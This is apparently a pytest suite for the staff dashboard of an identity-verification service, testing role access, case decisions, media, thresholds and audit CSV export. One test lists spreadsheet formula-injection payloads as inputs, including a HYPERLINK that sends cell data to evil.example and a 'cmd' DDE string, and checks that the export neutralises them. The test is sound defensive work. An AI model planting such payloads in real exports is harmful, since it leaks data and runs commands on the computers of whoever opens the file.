"""Reviewer dashboard: access by role, the queue, the case page, decisions, media, thresholds, audit."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from liveness.cases.models import AuditEvent, Case, CaseState, Decision
from liveness.checks.models import Score, ThresholdPolicy
from liveness.review import selectors
from liveness.review.models import CaseNote
from tests.conftest import staff_login

from .conftest import make_review_case, role_user

pytestmark = pytest.mark.django_db


def _url(name, case=None, **kw):
    if case is not None:
        kw["public_id"] = case.public_id
    return reverse(f"dashboard:{name}", kwargs=kw or None)


# --- access ------------------------------------------------------------------------------

def test_anonymous_users_are_sent_to_login_everywhere(client, review_case):
    urls = [_url("queue"), _url("case", review_case), _url("thresholds"), _url("audit"), _url("audit_csv"),
            _url("media", review_case, blob_id=review_case.selfie_blob.id)]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/staff/login/?next="), url
    assert not AuditEvent.objects.filter(action__in=["case.viewed", "media.viewed"]).exists()


def test_signed_in_user_without_a_role_or_staff_flag_is_refused(client, review_case):
    staff_login(client, role_user("nobody", None))
    assert client.get(_url("queue")).status_code == 403
    client.force_login(role_user("outsider", "reviewer", staff=False))  # not staff: no second factor asked
    assert client.get(_url("case", review_case)).status_code == 403


def _no_store(response):
    return "no-store" in response.get("Cache-Control", "")


def test_every_staff_response_is_no_store_refusals_included(client, reviewer, review_case):
    """A 403 (raised before the view), a 404 the view raises, and the redirects to sign-in are never cached."""
    assert client.get(_url("queue")).status_code == 302 and _no_store(client.get(_url("queue")))  # anonymous
    staff_login(client, reviewer)
    for response in [client.get(_url("thresholds")), client.get(_url("audit")), client.get(_url("audit_csv")),
                     client.get(reverse("signin:two_factor"))]:
        assert response.status_code == 403 and _no_store(response), response.request["PATH_INFO"]
    missing = client.get(_url("case", public_id="00000000-0000-0000-0000-000000000000"))
    assert missing.status_code == 404 and _no_store(missing)
    missing_medium = client.get(_url("media", review_case, blob_id="00000000-0000-0000-0000-000000000000"))
    assert missing_medium.status_code == 404 and _no_store(missing_medium)
    ok = client.get(_url("case", review_case))
    assert ok.status_code == 200 and _no_store(ok)


def test_reviewer_cannot_see_or_change_thresholds_or_audit(client, reviewer):
    staff_login(client, reviewer)
    assert client.get(_url("thresholds")).status_code == 403
    response = client.post(_url("threshold_edit", provider="local", metric="liveness"),
                           {"value": "10", "reason": "x", "action": "save"})
    assert response.status_code == 403
    assert not ThresholdPolicy.objects.filter(version__gt=1).exists()
    assert client.get(_url("audit")).status_code == 403


def test_compliance_admin_cannot_decide(client, compliance_admin, review_case):
    staff_login(client, compliance_admin)
    response = client.post(_url("decide", review_case), {"outcome": "reject", "reason": "reject:spoof_suspected"})
    assert response.status_code == 403
    assert not Decision.objects.exists()


# --- decisions -----------------------------------------------------------------------------

def test_reviewer_rejects_a_case_state_decision_and_audit_are_written(client, reviewer, review_case):
    staff_login(client, reviewer)
    response = client.post(_url("decide", review_case), {
        "outcome": "reject", "reason": "reject:spoof_suspected", "user_message": "",
        "internal_comment": "screen replay visible"})
    assert response.status_code == 302

    review_case.refresh_from_db()
    assert review_case.state == CaseState.REJECTED
    assert review_case.state_changed_by == reviewer
    decision = Decision.objects.get(case=review_case)
    assert (decision.outcome, decision.reason_code, decision.decided_by) == ("reject", "spoof_suspected", reviewer)
    assert decision.user_message == "We could not verify your identity."  # the reason's default
    actions = set(AuditEvent.objects.filter(case=review_case, actor=reviewer).values_list("action", flat=True))
    assert {"decision.made", "case.transition"} <= actions


def test_reviewer_requests_a_retake(client, reviewer, review_case):
    staff_login(client, reviewer)
    client.post(_url("decide", review_case), {"outcome": "retake", "reason": "retake:poor_lighting",
                                              "user_message": "Please use daylight."})
    review_case.refresh_from_db()
    assert review_case.state == CaseState.RETAKE_REQUESTED
    assert Decision.objects.get(case=review_case).user_message == "Please use daylight."


def test_reviewer_cannot_approve_over_a_failed_check(client, reviewer, review_case):
    staff_login(client, reviewer)
    response = client.post(_url("decide", review_case), {
        "outcome": "approve", "reason": "approve:manual_match", "internal_comment": "looks fine to me"})
    assert response.status_code == 403
    assert "only a supervisor can approve" in response.content.decode()
    review_case.refresh_from_db()
    assert review_case.state == CaseState.MANUAL_REVIEW and not Decision.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_refused_approval_over_a_failed_check_is_audited_and_committed(client, reviewer):
    """The refusal rolls the decision back, but its audit row is committed (autocommit here: no test transaction)."""
    case = make_review_case(reference="ref-refused")
    staff_login(client, reviewer)
    response = client.post(_url("decide", case), {
        "outcome": "approve", "reason": "approve:manual_match", "internal_comment": "looks fine to me"})
    assert response.status_code == 403
    case.refresh_from_db()
    assert case.state == CaseState.MANUAL_REVIEW and not Decision.objects.exists()
    assert not AuditEvent.objects.filter(case=case, action="decision.made").exists()
    event = AuditEvent.objects.get(case=case, action="decision.refused")
    assert event.actor == reviewer and event.actor_label == "user:rita"
    assert event.details["code"] == "supervisor_required" and "only a supervisor can approve" in event.details["reason"]
    assert (event.details["outcome"], event.details["reason_code"]) == ("approve", "manual_match")
    assert event.details["over_failed_check"] is True
    assert event.details["failing_checks"] == list(case.checks.values_list("pk", flat=True))


def test_every_refused_decision_is_audited_with_its_code(client, supervisor, review_case):
    staff_login(client, supervisor)
    client.post(_url("decide", review_case), {"outcome": "approve", "reason": "approve:manual_match"})
    client.post(_url("decide", review_case), {"outcome": "reject", "reason": "reject:other"})
    client.post(_url("decide", review_case), {"outcome": "retake", "reason": "retake:other"})
    refusals = AuditEvent.objects.filter(case=review_case, action="decision.refused").order_by("pk")
    assert [(e.details["code"], e.details["outcome"]) for e in refusals] == [
        ("comment_required", "approve"), ("not_in_review", "retake")]


def test_supervisor_approves_over_a_failed_check_only_with_a_comment(client, supervisor, review_case):
    staff_login(client, supervisor)
    client.post(_url("decide", review_case), {"outcome": "approve", "reason": "approve:manual_match"})
    review_case.refresh_from_db()
    assert review_case.state == CaseState.MANUAL_REVIEW and not Decision.objects.exists()

    client.post(_url("decide", review_case), {"outcome": "approve", "reason": "approve:manual_match",
                                              "internal_comment": "same person; low light lowered the score"})
    review_case.refresh_from_db()
    assert review_case.state == CaseState.APPROVED
    event = AuditEvent.objects.get(case=review_case, action="decision.made")
    assert event.details["over_failed_check"] is True and event.actor == supervisor


def test_reviewer_may_approve_when_every_check_passed(client, reviewer):
    case = make_review_case(passed=True, score=90.0, reference="ref-ok")
    staff_login(client, reviewer)
    client.post(_url("decide", case), {"outcome": "approve", "reason": "approve:verified"})
    case.refresh_from_db()
    assert case.state == CaseState.APPROVED


def test_a_reason_of_another_outcome_and_a_closed_case_are_refused(client, reviewer, review_case):
    staff_login(client, reviewer)
    client.post(_url("decide", review_case), {"outcome": "reject", "reason": "retake:poor_lighting"})
    assert not Decision.objects.exists()
    client.post(_url("decide", review_case), {"outcome": "reject", "reason": "reject:other"})
    client.post(_url("decide", review_case), {"outcome": "retake", "reason": "retake:other"})
    assert Decision.objects.count() == 1  # rejected is final


# --- case page, media ----------------------------------------------------------------------

def test_case_page_shows_scores_thresholds_catalogue_and_is_audited(client, reviewer, review_case):
    staff_login(client, reviewer)
    response = client.get(_url("case", review_case))
    html = response.content.decode()
    assert response.status_code == 200 and response["Cache-Control"].startswith("max-age=0")
    assert "no-store" in response["Cache-Control"]
    threshold = ThresholdPolicy.objects.get(provider="local", metric="liveness", version=1).value
    assert "41.5" in html and f"threshold {threshold:g}" in html and "policy v1" in html
    assert "req-abc-123" in html and "321 ms" in html and "<details>" in html
    assert "-5008" in html and "Suggested user action" in html
    assert _url("media", review_case, blob_id=review_case.selfie_blob.id) in html
    assert AuditEvent.objects.filter(case=review_case, action="case.viewed", actor=reviewer).count() == 1


def test_case_views_behind_a_proxy_audit_the_client_address_not_the_proxys(client, reviewer, review_case, settings):
    settings.KYC_TRUSTED_PROXY_COUNT = 1
    staff_login(client, reviewer)

    client.get(_url("case", review_case), REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.9")

    event = AuditEvent.objects.get(case=review_case, action="case.viewed")
    assert event.ip_address == "203.0.113.9"  # the entry the one trusted proxy appended; 1.2.3.4 is forgeable


def test_media_view_decrypts_audits_and_is_never_cached(client, reviewer, review_case):
    staff_login(client, reviewer)
    response = client.get(_url("media", review_case, blob_id=review_case.selfie_blob.id))
    assert response.status_code == 200
    assert response.content == review_case.selfie_bytes
    assert response["Content-Type"] == "image/jpeg"
    assert "no-store" in response["Cache-Control"]
    event = AuditEvent.objects.get(action="media.viewed")
    assert event.case == review_case and event.actor == reviewer
    assert event.details == {"blob": str(review_case.selfie_blob.id), "kind": "selfie"}


def test_media_of_another_case_cannot_be_reached_through_this_one(client, reviewer, review_case):
    other = make_review_case(reference="ref-other")
    staff_login(client, reviewer)
    response = client.get(_url("media", review_case, blob_id=other.selfie_blob.id))
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="media.viewed").exists()


def test_notes_and_assignment(client, reviewer, review_case):
    staff_login(client, reviewer)
    client.post(_url("assign", review_case))
    client.post(_url("note", review_case), {"body": "called the partner"})
    assert review_case.__class__.objects.get(pk=review_case.pk).assignment.assignee == reviewer
    assert CaseNote.objects.get(case=review_case).body == "called the partner"
    html = client.get(_url("queue") + "?assigned=me").content.decode()
    assert review_case.reference in html
    assert {"case.assigned", "note.added"} <= set(AuditEvent.objects.values_list("action", flat=True))


# --- queue ---------------------------------------------------------------------------------

def test_queue_counts_filters_search_and_keyset_pages(client, reviewer):
    cases = [make_review_case(reference=f"q-{i}", passed=i % 2 == 0, score=90.0 if i % 2 == 0 else 30.0)
             for i in range(5)]
    base = timezone.now() - timedelta(days=5)
    for i, case in enumerate(cases):
        Case.objects.filter(pk=case.pk).update(created_at=base + timedelta(hours=i))
    staff_login(client, reviewer)

    html = client.get(_url("queue")).content.decode()
    assert 'data-state="manual_review"><b>5</b>' in html
    assert html.index("q-0") < html.index("q-4")  # oldest first
    failing = selectors.queue_cases(filters=selectors.QueueFilter(failing="any"), user=reviewer)
    assert [c.reference for c in failing.items] == ["q-1", "q-3"]
    by_code = selectors.queue_cases(filters=selectors.QueueFilter(failing="-5008", provider="local"), user=reviewer)
    assert len(by_code.items) == 2
    assert not selectors.queue_cases(filters=selectors.QueueFilter(provider="senseid"), user=reviewer).items

    found = client.get(_url("queue") + f"?q={cases[3].public_id}").content.decode()
    assert "q-3" in found and "q-2" not in found
    assert "q-2" in client.get(_url("queue") + "?q=q-2").content.decode()

    seen, cursor = [], None
    while True:
        page = selectors.queue_cases(filters=selectors.QueueFilter(), user=reviewer, cursor=cursor, size=2)
        seen += [c.reference for c in page.items]
        cursor = page.next_cursor
        if not cursor:
            break
    assert seen == [f"q-{i}" for i in range(5)]
    newest = selectors.queue_cases(filters=selectors.QueueFilter(oldest_first=False), user=reviewer, size=2)
    assert [c.reference for c in newest.items] == ["q-4", "q-3"]
    day = (base + timedelta(hours=1)).date()
    assert selectors.queue_cases(filters=selectors.QueueFilter(created_from=day, created_to=day), user=reviewer).items


def test_bounded_count_caps():
    for i in range(4):
        make_review_case(reference=f"c-{i}", passed=True, score=90.0)
    assert selectors.bounded_count(Case.objects.all(), cap=2) == (2, True)
    assert selectors.bounded_count(Case.objects.all(), cap=10) == (4, False)


# --- thresholds ----------------------------------------------------------------------------

def test_thresholds_page_shows_both_sources_and_far_meaning(client, compliance_admin):
    staff_login(client, compliance_admin)
    html = client.get(_url("thresholds")).content.decode()
    assert "seed 002 recommends 87" in html and "seed 000 recommends 90" in html
    assert "false-accept rate 1 in 10,000" in html


def test_threshold_preview_then_save_creates_a_new_version(client, compliance_admin):
    make_review_case(score=41.5, reference="t1")
    make_review_case(score=55.0, reference="t2", passed=False)
    make_review_case(score=75.0, reference="t3", passed=True)
    staff_login(client, compliance_admin)
    url = _url("threshold_edit", provider="local", metric="liveness")

    response = client.post(url, {"value": "50", "reason": "", "last_n": "100", "action": "preview"})
    html = response.content.decode()
    assert response.status_code == 200 and 'id="preview"' in html and "<svg" in html
    assert response.context["preview"].fail_to_pass == 1 and response.context["preview"].pass_to_fail == 0
    assert ThresholdPolicy.objects.filter(provider="local", metric="liveness").count() == 1

    response = client.post(url, {"value": "50", "reason": "", "action": "save"})
    assert "A reason is required" in response.content.decode()
    client.post(url, {"value": "50", "reason": "fewer false rejections in low light", "action": "save"})
    latest = ThresholdPolicy.objects.filter(provider="local", metric="liveness").order_by("-version").first()
    assert (latest.version, latest.value, latest.created_by) == (2, 50.0, compliance_admin)
    assert Score.objects.filter(policy__version=1).count() == 3  # history is not rewritten
    assert AuditEvent.objects.filter(action="threshold.changed", actor=compliance_admin).exists()


# --- audit ---------------------------------------------------------------------------------

def test_audit_page_filters_and_csv_export(client, supervisor, review_case):
    staff_login(client, supervisor)
    client.get(_url("case", review_case))
    html = client.get(_url("audit") + "?action=case.viewed").content.decode()
    assert "<code>case.viewed</code>" in html and "<code>case.transition</code>" not in html

    response = client.get(_url("audit_csv") + f"?case={review_case.public_id}")
    assert response["Content-Type"].startswith("text/csv") and "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["created_at", "actor", "action"]
    assert {"case.opened", "case.transition", "case.viewed"} <= {r[2] for r in rows[1:]}
    assert AuditEvent.objects.filter(action="audit.exported", actor=supervisor).exists()


@pytest.mark.parametrize("evil", ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,2)", "\tleading tab", "\rleading CR"])
def test_the_audit_csv_neutralises_formulas_in_every_cell(client, supervisor, evil):
    """Issue 17, item 10: a partner's case reference ``=HYPERLINK(...)`` was exported raw, and a
    spreadsheet opening audit.csv ran it. Every such cell now starts with ``'`` (OWASP)."""
    case = Case.objects.create(kind="selfie", reference=evil)
    AuditEvent.objects.create(actor_label=evil, action="case.opened", case=case, details={"kind": "selfie"})
    staff_login(client, supervisor)

    response = client.get(_url("audit_csv") + f"?case={case.public_id}")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    row = next(r for r in rows[1:] if r[2] == "case.opened")
    assert row[1] == "'" + evil and row[4] == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_a_supervisor_assigns_a_case_to_a_reviewer_and_a_reviewer_cannot(client, review_case):
    from tests.review.conftest import role_user

    rita = role_user("rita-assignee", "reviewer")
    sam = role_user("sam-supervisor", "supervisor")
    outsider = role_user("olga-admin", "compliance_admin")

    staff_login(client, rita)
    refused = client.post(_url("assign", review_case), {"assignee": sam.username})
    assert refused.status_code == 403 and b"Only a supervisor" in refused.content

    staff_login(client, sam)
    page = client.get(_url("case", review_case)).content.decode()
    assert f'<option value="{rita.username}">' in page and f'<option value="{outsider.username}">' not in page
    assert client.post(_url("assign", review_case), {"assignee": outsider.username}).status_code == 403
    client.post(_url("assign", review_case), {"assignee": rita.username})

    review_case.refresh_from_db()
    assert review_case.assignment.assignee == rita
    event = AuditEvent.objects.filter(action="case.assigned").latest("created_at")
    assert event.actor == sam and event.details["assignee"] == rita.username


def test_an_assignee_name_with_a_nul_is_no_such_reviewer(client, review_case):
    """Issue 17: a NUL in ``assignee`` reached PostgreSQL, which refuses NULs in strings (500)."""
    from tests.review.conftest import role_user

    sam = role_user("sam-supervisor", "supervisor")
    staff_login(client, sam)
    response = client.post(_url("assign", review_case), {"assignee": "rita\x00"})
    assert response.status_code == 400 and b"No such reviewer" in response.content
    assert not AuditEvent.objects.filter(action="case.assigned").exists()


def test_a_reviewer_invites_someone_and_the_link_opens_that_case(client, reviewer):
    staff_login(client, reviewer)
    response = client.post("/dashboard/invite/", {"kind": "digit_video", "reference": "invite-7"})

    assert response.status_code == 200
    case = Case.objects.get(reference="invite-7")
    assert case.kind == "digit_video" and case.state == CaseState.AWAITING_SUBMISSION
    link = re.search(r'id="capture-link" readonly value="([^"]+)"', response.content.decode()).group(1)
    client.logout()
    assert client.get(link).status_code == 200  # the person needs no login
    assert AuditEvent.objects.filter(case=case, action="case.invited", actor=reviewer).exists()


def test_an_invite_needs_the_decide_permission(client):
    from tests.review.conftest import role_user

    admin = role_user("carla-admin", "compliance_admin")
    staff_login(client, admin)
    assert client.post("/dashboard/invite/", {"kind": "selfie"}).status_code == 403
    assert not Case.objects.exists()


def test_a_refused_page_says_why_and_where_to_go(client, reviewer):
    """A reviewer opening a supervisor-only page gets a 403 that explains itself, not a bare '403 Forbidden'."""
    staff_login(client, reviewer)
    for url in (_url("audit"), _url("audit_csv"), _url("thresholds")):
        response = client.get(url)
        html = response.content.decode()
        assert response.status_code == 403, url
        assert "You do not have access to this dashboard page." in html, url
        assert 'href="/dashboard/"' in html, url


def _unlabelled_controls(html: str) -> list[str]:
    """Form controls a screen reader cannot name: no <label for=id>, no aria-label, not wrapped in a <label>."""
    from html.parser import HTMLParser

    class Controls(HTMLParser):
        def __init__(self):
            super().__init__()
            self.label_for, self.controls, self.in_label = set(), [], 0

        def handle_starttag(self, tag, attrs):
            a = dict(attrs)
            if tag == "label":
                self.in_label += 1
                if a.get("for"):
                    self.label_for.add(a["for"])
            elif tag in ("input", "textarea", "select") and a.get("type") not in ("hidden", "submit", "button"):
                if not (self.in_label or a.get("aria-label") or a.get("aria-labelledby")):
                    self.controls.append((tag, a.get("name"), a.get("id")))

        def handle_endtag(self, tag):
            if tag == "label":
                self.in_label -= 1

    parser = Controls()
    parser.feed(html)
    return [f"{tag} name={name}" for tag, name, id_ in parser.controls if id_ not in parser.label_for]


def test_every_form_control_on_the_case_page_has_a_label(client, reviewer, review_case):
    staff_login(client, reviewer)
    html = client.get(_url("case", review_case)).content.decode()
    assert 'name="body"' in html  # the note form is there
    assert _unlabelled_controls(html) == []


def test_an_audit_export_with_invalid_filters_exports_nothing_and_says_why(client, supervisor, review_case):
    """A filtered export that silently became the whole log would hand out far more personal data than asked."""
    staff_login(client, supervisor)
    response = client.get(_url("audit_csv") + f"?case={review_case.public_id}&created_from=2026-13-45")

    assert response.status_code == 400
    body = response.content.decode()
    assert "Nothing exported" in body and "created_from" in body and "case.opened" not in body
    assert not AuditEvent.objects.filter(action="audit.exported").exists()
    page = client.get(_url("audit") + "?created_from=2026-13-45").content.decode()
    assert 'id="filter-errors"' in page  # the page says its filters were not applied
